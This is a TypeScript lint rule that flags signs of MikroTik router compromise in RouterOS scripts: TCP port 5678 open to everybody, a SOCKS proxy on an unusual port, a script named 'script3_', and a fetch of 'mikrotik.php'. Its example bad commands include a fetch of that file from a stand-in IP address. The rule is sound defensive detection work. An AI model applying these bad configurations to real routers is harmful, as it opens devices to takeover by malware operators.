import type { ArgumentUse, CommandUse, ItemState, ScriptModel } from '../../model/types';
import type { Span } from '../../syntax/span';
import { defineRule } from '../rule';
import { isYes, mayBeChanged } from '../support/items';
import { fetchesOf } from '../support/fetch';
import { isSwitchedOff, words } from '../support/weakValues';

interface Sign {
  readonly span: Span;
  readonly what: string;
}

const filterMenu = '/ip/firewall/filter';
const socksMenu = '/ip/socks';
const scriptMenu = '/system/script';
/** Matchers that leave only some senders: with one of them the port is not open to everybody. */
const senders = [
  'src-address',
  'src-address-list',
  'in-interface',
  'in-interface-list',
  'src-mac-address',
  'ipsec-policy',
];

export default defineRule({
  id: 'compromise-indicator',
  category: 'security',
  severity: 'warning',
  risk: 'critical',
  since: '0.1.0',
  recommended: true,
  summary: 'The configuration carries a sign of known malware',
  why: `Attacks on routers leave their marks in the configuration: a rule that opens TCP port 5678 to everybody, and a SOCKS proxy that somebody switched on (Mēris, 2021; MikroTik names both among the signs to look for); a script named \`script3_\` and a file \`mikrotik.php\` (the wave of coin miners of 2018).

Of SOCKS this rule speaks only where it sits on another port than its own. One sign may have another reason. If you know of none, treat the router as taken over: install RouterOS anew with Netinstall, change all passwords, and do not restore a binary backup. Entries of the scheduler that fetch scripts have a rule of their own.`,
  references: [
    'CWE-506',
    'CVE-2018-14847',
    'https://manual.mikrotik.com/docs/network-management/socks',
    'https://manual.mikrotik.com/docs/system-information-and-utilities/scheduler',
  ],
  fix: null,
  examples: [
    {
      bad: '/ip firewall filter add action=accept chain=input dst-port=5678 protocol=tcp',
      good: '/ip firewall filter add action=accept chain=input dst-port=5678 protocol=udp src-address=10.0.0.0/8',
    },
    { bad: '/ip socks set enabled=yes port=5678', good: '/ip socks set enabled=no port=5678' },
    {
      bad: '/system script add name=script3_ source={ :put a }',
      good: '/system script add name=script3 source={ :put a }',
    },
    {
      bad: '/tool fetch url="http://203.0.113.7/mikrotik.php"',
      good: '/tool fetch check-certificate=yes url="https://example.com/mikrotik.html"',
    },
  ],
  silent: [
    { script: '/ip socks set enabled=yes', because: 'SOCKS on its own port: the rule for SOCKS reports it' },
    { script: '/ip socks set port=1081', because: 'It is not switched on' },
    {
      script: '/ip firewall filter add action=accept chain=input dst-port=5678 in-interface-list=LAN protocol=tcp',
      because: 'Only for the local network',
    },
    {
      script: '/ip firewall filter add action=drop chain=input dst-port=5678 protocol=tcp',
      because: 'The port is closed',
    },
    {
      script: '/ip firewall filter add action=accept chain=forward dst-port=5678 protocol=tcp',
      because: 'For another host',
    },
  ],
  menus: [filterMenu, socksMenu, scriptMenu, '/tool'],
  check({ script, report }) {
    for (const { span, what } of [...openPorts(script), ...socks(script), ...scripts(script), ...files(script)]) {
      report({
        span,
        message: `${what}: known malware leaves this behind. If you know no other reason for it, the router has been taken over; install it anew and change all passwords.`,
      });
    }
  },
});

function openPorts(script: ScriptModel): readonly Sign[] {
  return script.state(filterMenu).items.flatMap((item) => {
    const value = (name: string): string | undefined => item.properties.get(name)?.value;
    if (isSwitchedOff(item) || item.added === undefined) return [];
    if (value('chain') !== 'input' || value('protocol') !== 'tcp') return [];
    if (item.properties.has('action') && value('action') !== 'accept') return [];
    if (senders.some((name) => item.properties.has(name))) return [];
    const port = item.properties.get('dst-port');
    return port?.value !== undefined && words(port.value).includes('5678') && port.argument !== undefined
      ? [{ span: port.argument.span, what: 'TCP port 5678 of the router is open to everybody' }]
      : [];
  });
}

function socks(script: ScriptModel): readonly Sign[] {
  const state = script.state(socksMenu);
  return state.items.flatMap((item: ItemState) => {
    const enabled = item.properties.get('enabled');
    const port = item.properties.get('port');
    if (!isYes(enabled?.value) || port?.value === undefined || port.value === '1080' || port.argument === undefined)
      return [];
    if (mayBeChanged(state, 'enabled', enabled) || mayBeChanged(state, 'port', port)) return [];
    return [{ span: port.argument.span, what: 'The SOCKS proxy is on, on another port than its own' }];
  });
}

function scripts(script: ScriptModel): readonly Sign[] {
  return script.commandsOf(scriptMenu).flatMap((command: CommandUse) => {
    const name =
      command.verb === 'add' ? command.arguments.find((argument: ArgumentUse) => argument.name === 'name') : undefined;
    return name?.value?.text === 'script3_' ? [{ span: name.span, what: 'A script is named script3_' }] : [];
  });
}

function files(script: ScriptModel): readonly Sign[] {
  return fetchesOf(script).flatMap(({ file, url, command }) =>
    file === 'mikrotik.php' ? [{ span: url?.span ?? command.span, what: 'A file mikrotik.php is fetched' }] : [],
  );
}
